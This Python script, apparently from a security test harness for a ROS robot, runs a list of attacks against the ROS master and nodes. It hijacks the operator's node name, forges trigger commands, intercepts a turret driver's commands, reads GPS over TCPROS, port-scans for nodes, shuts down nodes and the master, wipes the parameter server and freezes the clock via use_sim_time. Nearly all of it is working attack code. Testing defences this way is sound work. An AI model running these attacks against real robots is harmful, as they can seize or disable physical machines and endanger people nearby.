"""Try attacks that any host on the robot's network can make with plain Python: attacker.py [ATTACK …]

The attacker knows the master's address, and the names of nodes and topics, which are the same on all such robots. The
program prints one JSON object for each attack: `attack`, `succeeded`, `tried`, `answer`. Behind a plain master each
attack succeeds.
"""

import contextlib
import http.client
import json
import os
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time
import xmlrpc.client
from pathlib import Path
from urllib.parse import urlsplit

from report import report

MASTER = os.environ["ROS_MASTER_URI"]
MY_ADDRESS = os.environ["ROS_IP"]
MY_API = f"http://{MY_ADDRESS}:40404/"  # no program listens on this port
ME = "/tablet"  # a name that belongs to this host, so an attacker who took over the host may use it
VICTIM = "/landshark_laser"
BATTERY, GPS = "/landshark/battery", "/landshark/gps"
LIMIT = 3.0
ROBOT_LIMIT = 60.0  # a robot may start after this host
NODE_LIMIT = 15.0  # behind a master that does not answer, a node retries forever
ROBOT = os.environ.get("LANDSHARK", "10.77.0.10")
NODE_PORTS = range(32768, 61000)  # where Linux puts programs that do not choose: ROS nodes
RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
FAILURES = (OSError, http.client.HTTPException, xmlrpc.client.Error)


class _Transport(xmlrpc.client.Transport):
    def make_connection(self, host):
        connection = super().make_connection(host)
        connection.timeout = LIMIT
        return connection


def call(uri, method, *parameters):
    try:
        with xmlrpc.client.ServerProxy(uri, transport=_Transport(), allow_none=True) as server:
            return list(getattr(server, method)(*parameters))
    except FAILURES as error:
        return [-1, f"{type(error).__name__}: {error}", 0]


def granted(answer):
    return bool(answer) and answer[0] == 1


def look_around():
    answer = call(MASTER, "getSystemState", ME)
    return granted(answer), "getSystemState()", answer


def take_over_the_operator():
    """Register the operator's name: ROS then shuts down the real node."""
    return forge("ocu")


def forge_the_trigger():
    return forge(ME.strip("/"))


def forge(name):
    command = ["/usr/bin/python3", str(Path(__file__).with_name("forger.py")), name]
    try:
        done = subprocess.run(
            command,
            env=os.environ | {"LANDSHARK_REPORTS": "json"},
            capture_output=True,
            text=True,
            timeout=NODE_LIMIT,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return (
            False,
            f"a node /{name} that publishes /landshark_control/trigger",
            [-1, "it could not even start"],
        )
    said = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    drivers = said[-1]["drivers"] if said else 0
    # rospy logs the master's reason
    reasons = [line for line in done.stderr.splitlines() if line.strip()]
    answer = said or reasons[-1:] or [f"the node ended with {done.returncode}"]
    return drivers > 0, f"a node /{name} that publishes /landshark_control/trigger", answer


def replace_a_driver():
    """Subscribe under the driver's name, so that the operator's commands go to this host."""
    arguments = ("/landshark_turret", "/landshark_control/trigger", "*", MY_API)
    answer = call(MASTER, "registerSubscriber", *arguments)
    if granted(answer):  # undo the registration
        call(MASTER, "unregisterSubscriber", "/landshark_turret", "/landshark_control/trigger", MY_API)
    return granted(answer), "registerSubscriber(/landshark_turret, /landshark_control/trigger)", answer


def watch_the_battery():
    """Do what the policy allows: read the charge, as soon as the robot publishes it."""
    deadline, pause = time.monotonic() + ROBOT_LIMIT, threading.Event()
    while True:
        succeeded, tried, answer = subscribe(BATTERY)
        if succeeded or not granted(answer) or time.monotonic() > deadline:
            return succeeded, tried, answer
        pause.wait(1)


def spy_on_gps():
    return subscribe(GPS)


def subscribe(topic):
    tried = f"registerSubscriber({ME}, {topic})"
    answer = call(MASTER, "registerSubscriber", ME, topic, "*", MY_API)
    if not granted(answer):
        return False, tried, answer
    call(MASTER, "unregisterSubscriber", ME, topic, MY_API)
    for publisher in answer[2]:
        offered = call(publisher, "requestTopic", ME, topic, [["TCPROS"]])
        if granted(offered) and reads(offered[2][1], offered[2][2], topic):
            return True, tried, [1, f"a message from {offered[2][1]}:{offered[2][2]}"]
    return False, tried, answer


def reads(host, port, topic):
    """Return whether a TCPROS port sends a message of the topic to an unknown host."""
    fields = {"callerid": ME, "topic": topic, "type": "*", "md5sum": "*", "tcp_nodelay": "0"}
    body = b"".join(
        struct.pack("<I", len(text)) + text for text in (f"{k}={v}".encode() for k, v in fields.items())
    )
    try:
        with socket.create_connection((host, port), LIMIT) as peer:
            peer.sendall(struct.pack("<I", len(body)) + body)
            header = exactly(peer, struct.unpack("<I", exactly(peer, 4))[0])
            return b"error=" not in header and len(exactly(peer, 4)) == 4
    except OSError:
        return False


def exactly(peer, size):
    if size > 1 << 20:
        raise OSError("no ROS header")
    data = b""
    while len(data) < size:
        piece = peer.recv(size - len(data))
        if not piece:
            raise OSError("closed")
        data += piece
    return data


def kill_a_node():
    found = call(MASTER, "lookupNode", ME, VICTIM)
    if not granted(found):
        return False, f"lookupNode({VICTIM})", found
    answer = call(found[2], "shutdown", ME, "goodbye")
    died_first = answer[0] == -1 and not granted(call(found[2], "getPid", ME))
    return granted(answer) or died_first, f"shutdown() at {VICTIM}", answer


def try_every_port():
    host = urlsplit(MASTER).hostname
    said = []
    for port in RELAY_PORTS:
        with socket.socket() as probe:
            probe.settimeout(0.3)
            if probe.connect_ex((host, port)):
                continue
        answer = call(f"http://{host}:{port}/", "shutdown", ME, "goodbye")
        if granted(answer) or reads(host, port, GPS):
            return True, f"shutdown() and {GPS} at port {port}", answer
        said.append([port, *answer])
    told = [row for row in said if row[1] != -1] or said
    return False, f"shutdown() and {GPS} at {len(said)} open ports", told[0] if told else ["no port is open"]


def go_past_the_master():
    tried = f"shutdown() of a node, found by a port scan of {ROBOT}"
    ports = open_ports(ROBOT, NODE_PORTS)
    for port in ports:
        answer = call(f"http://{ROBOT}:{port}/", "shutdown", ME, "goodbye")
        died_first = answer[0] == -1 and "refused" in call(f"http://{ROBOT}:{port}/", "getPid", ME)[1]
        if granted(answer) or died_first:
            return True, tried, [1, f"the node at port {port} obeyed: {answer[1]}"]
    return False, tried, [-1, f"{len(ports)} of {len(NODE_PORTS)} ports of the robot could be reached"]


def open_ports(host, ports, at_once=800, seconds=0.25):
    """Return the ports that accept a connection. Try `at_once` ports at a time."""
    found = []
    for start in range(0, len(ports), at_once):
        with selectors.DefaultSelector() as selector, contextlib.ExitStack() as opened:
            for port in ports[start : start + at_once]:
                probe = opened.enter_context(socket.socket())
                probe.setblocking(False)
                probe.connect_ex((host, port))
                selector.register(probe, selectors.EVENT_WRITE, port)
            deadline = time.monotonic() + seconds
            while selector.get_map() and time.monotonic() < deadline:
                for key, _ in selector.select(deadline - time.monotonic()):
                    selector.unregister(key.fileobj)
                    if not key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        found.append(key.data)
    return found


def stop_the_clock():
    """Switch to simulated time: nodes that start later wait for a clock that never ticks."""
    answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
    if granted(answer):
        call(MASTER, "deleteParam", ME, "/use_sim_time")
    return granted(answer), "setParam(/use_sim_time, true)", answer


def wipe_the_parameters():
    """Replace all parameters with an empty tree."""
    answer = call(MASTER, "setParam", ME, "/", {})
    return granted(answer), "setParam(/, {})", answer


def stop_the_master():
    answer = call(MASTER, "shutdown", ME, "goodbye")
    return granted(answer), "shutdown() of the master (shutdownMaster)", answer


ATTACKS = {
    "watch the battery": watch_the_battery,
    "look around": look_around,
    "take over the operator": take_over_the_operator,
    "forge the trigger": forge_the_trigger,
    "replace a driver": replace_a_driver,
    "spy on the position": spy_on_gps,
    "kill a node": kill_a_node,
    "try every port": try_every_port,
    "go past the master": go_past_the_master,
    "stop the clock": stop_the_clock,
    "wipe the parameters": wipe_the_parameters,
    "stop the master": stop_the_master,
}


def main():
    unknown = [name for name in sys.argv[1:] if name not in ATTACKS]
    if unknown:
        sys.exit(f"attacker.py: no attack {unknown[0]!r}; there are: {', '.join(ATTACKS)}")
    for name in sys.argv[1:] or ATTACKS:
        succeeded, tried, answer = ATTACKS[name]()
        report("attacked", attack=name, succeeded=succeeded, tried=tried, answer=answer)


if __name__ == "__main__":
    main()
